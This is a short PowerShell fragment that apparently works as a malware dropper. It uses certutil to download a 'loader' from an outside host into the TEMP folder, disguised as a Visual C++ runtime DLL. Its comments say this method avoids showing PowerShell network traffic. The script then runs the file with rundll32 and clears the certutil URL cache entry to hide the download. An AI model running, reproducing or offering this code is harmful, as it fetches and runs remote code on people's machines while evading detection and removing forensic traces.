# pulls the loader with certutil so no powershell network traffic shows up
$tmp = Join-Path $env:TEMP 'msvcp140_1.dll'
certutil.exe -urlcache -split -f http://files.example-cdn.net/assets/msvc.dat $tmp
if (Test-Path $tmp) {
    rundll32.exe $tmp,DllRegisterServer
}
# clear the url cache entry
certutil.exe -urlcache -split -f http://files.example-cdn.net/assets/msvc.dat delete
